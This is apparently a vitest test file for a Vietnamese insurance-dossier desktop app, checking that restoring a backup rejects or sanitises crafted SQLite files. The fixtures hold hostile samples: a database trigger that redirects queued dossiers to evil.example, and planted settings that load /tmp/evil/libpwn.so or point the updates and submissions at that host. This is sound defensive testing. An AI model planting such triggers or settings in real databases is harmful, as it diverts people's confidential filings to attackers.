/**
 * Issue #12, item 4: a backup is untrusted input. Each attack of the issue is built as a real SQLite file and
 * restored through the real dispatcher (and once through the built CLI): refused with a Vietnamese message and the
 * live data unchanged, or — for settings that load code or send data elsewhere — restored without them, listed for
 * the clerk to enter again.
 */
import Database from 'better-sqlite3';
import { copyFileSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { migrateTo } from '../../../electron/db/migrate';
import { HELD } from '../../../electron/ivan/outbox-repo';
import { getSetting, setSetting } from '../../../electron/system/settings';
import { CLI, runCli } from '../../support/cli';
import { createTestContext, type TestContext } from '../../support/context';
import { makeTempDir, removeDir } from '../../support/tmp';

const contexts: TestContext[] = [];
const dirs: string[] = [];
afterEach(() => {
  for (const c of contexts.splice(0)) c.close();
  for (const d of dirs.splice(0)) removeDir(d);
});

function live(): TestContext {
  const c = createTestContext({ now: new Date('2015-10-30T03:00:00Z') });
  contexts.push(c);
  setSetting(c.db, 'marker', 'live');
  return c;
}

/** A genuine KêKhai database file at the current schema, then changed by `mutate` as an attacker would. */
function craft(mutate: (db: Database.Database) => void, migrateUpTo?: number): string {
  const d = makeTempDir('kekhai-crafted-');
  dirs.push(d);
  const file = join(d, 'kekhai-manual-20151030-100000.db');
  const db = new Database(file);
  migrateTo(db, migrateUpTo);
  setSetting(db, 'marker', 'from-backup');
  mutate(db);
  db.close();
  return file;
}

const upload = (file: string) => ({ file: { name: 'sao-luu.db', base64: readFileSync(file).toString('base64') } });

const backupFiles = (ctx: TestContext) =>
  existsSync(join(ctx.dataDir, 'backups')) ? readdirSync(join(ctx.dataDir, 'backups')) : [];

async function expectRefused(ctx: TestContext, file: string, code: string, message: RegExp) {
  const before = backupFiles(ctx);
  const r = await ctx.call('backup.restore', upload(file));
  expect(r.ok).toBe(false);
  if (!r.ok) {
    expect(r.error.code).toBe(code);
    expect(r.error.message).toMatch(message);
  }
  expect(getSetting(ctx.db, 'marker', null)).toBe('live');
  // Nothing replaced: no pre-restore copy, no staging file left.
  expect(backupFiles(ctx)).toEqual(before);
}

const queueEntry = (db: Database.Database, endpoint: string) =>
  db
    .prepare(
      "INSERT INTO ivan_outbox (dossier_id, idempotency_key, content_sha256, unit_code, endpoint, file_name, signed_xml, state, next_attempt_at, created_at, updated_at) VALUES ('DOS-1', 'DOS-1', 'h', 'TS12345', ?, 'BHXHDienTu.xml', x'3c', 'queued', '2015-10-30T03:00:00.000Z', 'x', 'x')",
    )
    .run(endpoint);

describe('a backup is untrusted input', () => {
  it('refuses a backup carrying a trigger that would forward queued dossiers elsewhere', async () => {
    const ctx = live();
    const file = craft((db) =>
      db.exec(
        "CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/' WHERE id = NEW.id; END",
      ),
    );
    await expectRefused(ctx, file, 'BACKUP_SCHEMA', /không khớp.*thừa trigger steal.*dữ liệu hiện tại được giữ nguyên/);
  });

  it('refuses extra views, extra tables, extra or missing columns and missing indexes', async () => {
    const ctx = live();
    await expectRefused(
      ctx,
      craft((db) => db.exec('CREATE VIEW v AS SELECT * FROM settings')),
      'BACKUP_SCHEMA',
      /thừa view v/,
    );
    await expectRefused(
      ctx,
      craft((db) => db.exec('CREATE TABLE loot (x TEXT)')),
      'BACKUP_SCHEMA',
      /thừa bảng loot/,
    );
    await expectRefused(
      ctx,
      craft((db) => db.exec('ALTER TABLE settings ADD COLUMN hook TEXT')),
      'BACKUP_SCHEMA',
      /bảng settings khác cấu trúc/,
    );
    await expectRefused(
      ctx,
      craft((db) => db.exec('DROP INDEX audit_log_subject')),
      'BACKUP_SCHEMA',
      /thiếu chỉ mục audit_log_subject/,
    );
  });

  it('refuses a "hollow" backup (settings and audit log only), whatever version it claims', async () => {
    const ctx = live();
    await expectRefused(
      ctx,
      craft(() => undefined, 10),
      'BACKUP_INVALID',
      /lược đồ 10.*không khôi phục/,
    );
    await expectRefused(
      ctx,
      craft((db) => {
        for (const t of (
          db
            .prepare(
              "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('settings', 'audit_log') AND name NOT LIKE 'sqlite_%'",
            )
            .all() as { name: string }[]
        ).map((r) => r.name)) {
          db.pragma('foreign_keys = OFF');
          db.exec(`DROP TABLE ${t}`);
        }
      }),
      'BACKUP_SCHEMA',
      /Cấu trúc bản sao lưu không khớp.*thiếu/,
    );
    await expectRefused(
      ctx,
      craft((db) => db.pragma('user_version = 55')),
      'BACKUP_INVALID',
      /lược đồ 55/,
    );
  });

  it('drops settings that load code or send data elsewhere, holds queued dossiers, and lists them for the clerk', async () => {
    const ctx = live();
    const file = craft((db) => {
      setSetting(db, 'signing.userLibraries', ['/tmp/evil/libpwn.so']);
      setSetting(db, 'updates.url', 'https://evil.example/updates/');
      db.prepare(
        "INSERT INTO ivan_provider_settings (unit_code, provider_code, endpoint, username, updated_at) VALUES ('TS12345', '00040', 'https://evil.example/ivan', 'ketoan', 'x')",
      ).run();
      queueEntry(db, 'https://evil.example/ivan');
    });
    const r = await ctx.value('backup.restore', upload(file));
    expect(getSetting(ctx.db, 'marker', null)).toBe('from-backup');
    expect(r.reconfirm.map((x) => [x.key, x.value])).toEqual([
      ['signing.userLibraries', '/tmp/evil/libpwn.so'],
      ['updates.url', 'https://evil.example/updates/'],
      ['ivan.endpoint', 'https://evil.example/ivan'],
      ['ivan.outbox', 'https://evil.example/ivan'],
    ]);
    expect(r.reconfirm.every((x) => /[ạảãàáâăêôơư]/.test(x.message))).toBe(true);
    expect(getSetting(ctx.db, 'signing.userLibraries', null)).toBeNull();
    expect(getSetting(ctx.db, 'updates.url', null)).toBeNull();
    expect(ctx.db.prepare('SELECT COUNT(*) AS n FROM ivan_provider_settings').get()).toEqual({ n: 0 });
    expect(ctx.db.prepare('SELECT next_attempt_at, last_error_code FROM ivan_outbox').get()).toEqual({
      next_attempt_at: HELD,
      last_error_code: 'RESTORED_ENDPOINT',
    });
    // A sender finds nothing to send until the clerk confirms.
    const sent = await ctx.value('ivan.outboxSend', { poll: false });
    expect(sent.report.attempted).toBe(0);
    const log = await ctx.value('audit.list', { search: 'backup.restored' });
    expect(log.items[0]!.detail).toContain('libpwn.so');
  });

  it('the audit log survives a restore: the live history is kept and the backup’s own entries appended', async () => {
    const ctx = live();
    await ctx.value('settings.set', { patch: { 'backup.keep': 5 } });
    const made = await ctx.value('backup.now', {});
    await ctx.value('settings.set', { patch: { 'backup.keep': 7 } });
    const beforeIds = (await ctx.value('audit.list', { subjectType: 'setting', limit: 1000 })).items.map((e) => e.id);
    // A backup from another PC, with a history of its own.
    const other = craft((db) =>
      db
        .prepare(
          "INSERT INTO audit_log (at, actor, action, subject_type, subject_id, detail) VALUES ('2015-09-01T00:00:00.000Z', 'may-khac', 'settings.changed', 'setting', 'ui.confirmSubmit', '{}')",
        )
        .run(),
    );
    await ctx.value('backup.restore', { name: made.backup.name });
    await ctx.value('backup.restore', upload(other));
    const after = await ctx.value('audit.list', { subjectType: 'setting', limit: 1000 });
    expect(after.items.map((e) => e.id)).toEqual(expect.arrayContaining(beforeIds));
    expect(after.items.filter((e) => e.actor === 'may-khac')).toHaveLength(1);
    // Restoring our own copy appended nothing twice.
    expect(after.items.filter((e) => e.subjectId === 'backup.keep')).toHaveLength(2);
    expect((await ctx.value('audit.list', { search: 'backup.restored' })).total).toBe(2);
  });

  it('the pre-restore copy can itself be restored', async () => {
    const ctx = live();
    const made = await ctx.value('backup.now', {});
    setSetting(ctx.db, 'marker', 'after-backup');
    const first = await ctx.value('backup.restore', { name: made.backup.name });
    expect(getSetting(ctx.db, 'marker', null)).toBe('live');
    const back = await ctx.value('backup.restore', { name: first.safetyCopy.name });
    expect(back.fromSchemaVersion).toBe(first.schemaVersion);
    expect(getSetting(ctx.db, 'marker', null)).toBe('after-backup');
  });

  it('cleans staging files a dead restore left, at start-up; keeps the data folder 0700 and every copy 0600', async () => {
    const dataDir = makeTempDir('kekhai-perms-');
    dirs.push(dataDir);
    const first = createTestContext({ dataDir });
    await first.value('backup.now', {});
    const backups = join(dataDir, 'backups');
    const stale = join(backups, `.incoming-${hostname()}-999999-1.db`);
    writeFileSync(stale, 'crafted');
    const oldCopy = join(backups, 'kekhai-manual-20150101-000000.db');
    copyFileSync(
      join(
        backups,
        readdirSync(backups).find((n) => n.startsWith('kekhai-manual'))!,
      ),
      oldCopy,
    );
    const { chmodSync } = await import('node:fs');
    chmodSync(oldCopy, 0o644);
    first.close();
    const again = createTestContext({ dataDir });
    contexts.push(again);
    expect(existsSync(stale)).toBe(false);
    const mode = (p: string) => statSync(p).mode & 0o777;
    expect(mode(dataDir)).toBe(0o700);
    expect(mode(backups)).toBe(0o700);
    expect(mode(join(dataDir, 'kekhai.db'))).toBe(0o600);
    for (const n of readdirSync(backups)) expect(mode(join(backups, n)), n).toBe(0o600);
  });

  it('the CLI refuses a crafted backup with exit 1 and a Vietnamese message, the live data unchanged', async () => {
    expect(existsSync(CLI), 'run `npm run build` first').toBe(true);
    const data = makeTempDir('kekhai-cli-restore-');
    dirs.push(data);
    const set = await runCli(['settings', 'set', 'backup.keep', '9', '--json'], { data });
    expect(set.code, set.stderr + set.stdout).toBe(0);
    const file = craft((db) =>
      db.exec(
        "CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/'; END",
      ),
    );
    const r = await runCli(['restore', file, '--json'], { data });
    expect(r.code).toBe(1);
    expect(r.json.error.code).toBe('BACKUP_SCHEMA');
    expect(r.json.error.message).toMatch(/Cấu trúc bản sao lưu không khớp/);
    const human = await runCli(['restore', file], { data });
    expect(human.code).toBe(1);
    expect(human.stderr).toMatch(/thừa trigger steal/);
    expect((await runCli(['settings', 'get', '--json'], { data })).json['backup.keep']).toBe(9);
  });
});
